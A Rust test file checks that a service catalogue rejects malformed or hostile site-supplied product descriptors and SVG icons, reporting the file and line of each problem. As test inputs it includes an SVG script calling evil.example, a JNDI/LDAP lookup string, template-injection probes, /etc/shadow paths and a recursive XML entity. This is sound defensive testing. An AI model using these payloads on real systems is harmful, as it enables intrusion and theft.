//! What a site may add to the catalogue.

use super::*;
use std::path::PathBuf;

const ICON: &str = r#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0"/></svg>"#;

fn descriptor() -> String {
    fs::read_to_string("../services/grr/service.toml").unwrap()
}

fn folder(dir: &Path, name: &str, text: &str, icon: &str) -> PathBuf {
    let path = dir.join(name);
    fs::create_dir_all(&path).unwrap();
    fs::write(path.join("service.toml"), text).unwrap();
    fs::write(path.join("icon.svg"), icon).unwrap();
    path
}

#[test]
fn a_site_adds_its_own_products() {
    let dir = tempfile::tempdir().unwrap();
    folder(dir.path(), "intranet", &descriptor(), ICON);
    let all = catalogue().load_extra(dir.path()).unwrap();
    assert!(all.product("intranet").is_some() && all.product("grr").is_some());
    assert!(catalogue().product("intranet").is_none());
}

#[test]
fn an_addition_with_a_problem_is_refused_with_its_place() {
    for (name, text, icon, told) in [
        ("grr", descriptor(), ICON, "already has this name"),
        ("Grand", descriptor(), ICON, "named by 1 to 64"),
        ("a", descriptor(), "<svg><script/></svg>", "icon.svg:1: <script>"),
        ("a", descriptor().replace("urls = [\"{url}/\"]", "urls = []"), ICON, "service.toml:2 urls: at least one"),
        (
            "a",
            descriptor().replace("\"{url}/\"]", "\"{host}/\"]"),
            ICON,
            "service.toml:2 urls: `{host}/` names a parameter",
        ),
        ("a", descriptor().replace("\"{url}/\"]", "\"{url}/{X}\"]"), ICON, "no other brace"),
        ("a", descriptor().replace("[parameters.url]", "[parameters.preau]"), ICON, "neither `preau` nor `id`"),
        ("a", descriptor().replace("home =", "homme = 1\nhome ="), ICON, "service.toml:1 homme: unknown field"),
        ("a", descriptor().replace("{preau}", "{praeu}"), ICON, "other_side: `{praeu}`"),
        (
            "a",
            descriptor().replace("copy = \"mail\"", "copy = \"birth_date\""),
            ICON,
            "release[2].copy: unknown variant",
        ),
        ("a", "x".repeat(70_000), ICON, "larger than 64 KiB"),
    ] {
        let dir = tempfile::tempdir().unwrap();
        folder(dir.path(), name, &text, icon);
        let problems = catalogue().load_extra(dir.path()).unwrap_err();
        let all: Vec<String> = problems.iter().map(ToString::to_string).collect();
        assert!(all.iter().any(|problem| problem.contains(told)), "{told}\n{all:?}");
    }
    let dir = tempfile::tempdir().unwrap();
    let path = folder(dir.path(), "a", &descriptor(), ICON);
    assert!(catalogue().load_extra(dir.path()).is_ok(), "control");
    fs::remove_file(path.join("icon.svg")).unwrap();
    assert!(catalogue().load_extra(dir.path()).is_err());
    assert!(catalogue().load_extra(&dir.path().join("absent")).is_err());
}

#[test]
fn a_broken_product_of_the_site_leaves_the_others_and_every_change_is_seen() {
    let dir = tempfile::tempdir().unwrap();
    let product = catalogue().product("grr").unwrap();
    let text = include_str!("../../../services/grr/service.toml");
    let add = |name: &str, text: &str| {
        std::fs::create_dir_all(dir.path().join(name)).unwrap();
        std::fs::write(dir.path().join(name).join("service.toml"), text).unwrap();
        std::fs::write(dir.path().join(name).join("icon.svg"), &product.icon).unwrap();
    };
    let empty = product_signature(dir.path());
    assert_ne!(empty, product_signature(&dir.path().join("absent")));
    add("ours", text);
    let first = product_signature(dir.path());
    assert_ne!(empty, first);
    assert_eq!(first, product_signature(dir.path()));
    add("broken", "title = ");
    assert_ne!(first, product_signature(dir.path()));
    let (all, problems) = catalogue().load_extra_sound(dir.path());
    assert!(all.product("ours").is_some() && all.product("broken").is_none() && all.product("grr").is_some());
    assert!(problems.len() == 1 && problems[0].at.contains("broken/service.toml"), "{problems:?}");
    let before = product_signature(dir.path());
    add("ours", &format!("{text}# changed\n"));
    assert_ne!(before, product_signature(dir.path()), "inside a folder as well");
}

/// What a stranger might send as a product: each is refused with file and line, beside the same folder that is taken.
#[test]
fn hostile_products_are_refused_with_the_line() {
    let with = |from: &str, to: &str| {
        assert!(descriptor().contains(from), "{from}");
        descriptor().replace(from, to)
    };
    let parameter = |name: &str, default: &str| {
        format!("{}\n[parameters.{name}]\nfr = \"x\"\nen = \"x\"\ndefault = \"{default}\"\n", descriptor())
    };
    let lines = descriptor().lines().count();
    let line_of = |what: &str| descriptor().lines().position(|line| line == what).unwrap() + 1;
    let script = ICON.replace("<path", "\n\n<script>fetch('//evil.example')</script><path");
    let entity = format!("<!DOCTYPE svg [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>\n{ICON}");
    for (text, icon, told) in [
        // A key nobody knows, and one that is there twice.
        (with("category =", "on_load = \"x\"\ncategory ="), ICON, "service.toml:3 on_load: unknown field".to_owned()),
        (with("category =", "home = \"x\"\ncategory ="), ICON, "service.toml:3".to_owned()),
        // A value that names itself, or another that names it: no value is ever read again.
        (parameter("loop", "{loop}"), ICON, format!("service.toml:{} parameters.loop", lines + 5)),
        (
            parameter("a", "{url}"),
            ICON,
            format!("service.toml:{} parameters.a.default: a value holds no brace", lines + 5),
        ),
        // Names of ours, and expressions of other engines, where an address goes.
        (
            with("home = \"{url}/\"", "home = \"{url}/{preau}\""),
            ICON,
            "service.toml:1 home: `{url}/{preau}` names".to_owned(),
        ),
        (
            with("home = \"{url}/\"", "home = \"{url}/{{7*7}}\""),
            ICON,
            "service.toml:1 home: an address holds".to_owned(),
        ),
        (
            with("urls = [\"{url}/\"]", "urls = [\"{url}/${jndi:ldap://evil.example}\"]"),
            ICON,
            "service.toml:2 urls: an address holds".to_owned(),
        ),
        (
            with("copy = \"mail\"", "copy = \"mail\"\nscope = \"{secret}\""),
            ICON,
            format!("service.toml:{} release[2]: `{{secret}}` names a parameter", line_of("copy = \"mail\"") - 2),
        ),
        // A secret or a file of this machine, named by a product.
        (
            format!("{}\n[oidc]\nclient_secret_file = \"/etc/shadow\"\n", descriptor()),
            ICON,
            "secrets and keys belong".to_owned(),
        ),
        (format!("{}\n[saml]\nmetadata = \"/etc/shadow\"\n", descriptor()), ICON, "files belong".to_owned()),
        // A block where nobody can write one.
        (
            format!("{}\n[oidc]\n", with("name = \"user_nom_ldap\"", "name = \"a/b\"")),
            ICON,
            format!("service.toml:{} release[0].name: a block (`block/name`)", line_of("name = \"user_nom_ldap\"")),
        ),
        // Too large, too deep.
        ("#".repeat(10 * 1024 * 1024), ICON, "service.toml: larger than 64 KiB".to_owned()),
        (format!("x = {}", "[".repeat(30_000)), ICON, "service.toml:1".to_owned()),
        (descriptor(), &" ".repeat(10 * 1024 * 1024), "icon.svg: larger than 16 KiB".to_owned()),
        // A drawing that runs, or that is never done being read.
        (descriptor(), &script, "icon.svg:3: <script> does not belong here".to_owned()),
        (descriptor(), &entity, "icon.svg:1: declarations".to_owned()),
    ] {
        let dir = tempfile::tempdir().unwrap();
        folder(dir.path(), "a", &text, icon);
        let problems = catalogue().load_extra(dir.path()).unwrap_err();
        let all: Vec<String> = problems.iter().map(ToString::to_string).collect();
        assert!(all.iter().any(|problem| problem.contains(&told)), "{told}\n{all:?}");
        assert!(all.iter().all(|problem| problem.len() < 2000), "what is told is short: {told}");
        let (sound, _) = catalogue().load_extra_sound(dir.path());
        assert!(sound.product("a").is_none() && sound.product("grr").is_some(), "{told}");
    }
    let dir = tempfile::tempdir().unwrap();
    folder(dir.path(), "a", &parameter("room", "500 MB"), ICON);
    let control = catalogue().load_extra(dir.path()).unwrap();
    assert!(control.product("a").is_some(), "control");
}

/// What an installation gives is a value and never a template, in whatever it is written.
#[test]
fn a_value_is_never_read_as_a_template() {
    let text = |value: &str| {
        format!("connector = \"sacoche\"\n[parameters]\nurl = \"https://s.example\"\nbase = \"{value}\"\n")
    };
    for bad in ["{url}", "{preau}", "{{7*7}}", "${x}", "a\\nb", "a\\u0000b", ""] {
        let problems = crate::mount("f.toml", "f", &text(bad), catalogue()).unwrap_err();
        assert!(problems[0].at.starts_with("f.toml:4 parameters.base"), "{bad}: {problems:?}");
    }
    let service = crate::mount("f.toml", "f", &text("%7Burl%7D"), catalogue()).unwrap().unwrap();
    assert_eq!(service.service.home.as_str(), "https://s.example/?sso=%7Burl%7D", "control");
}
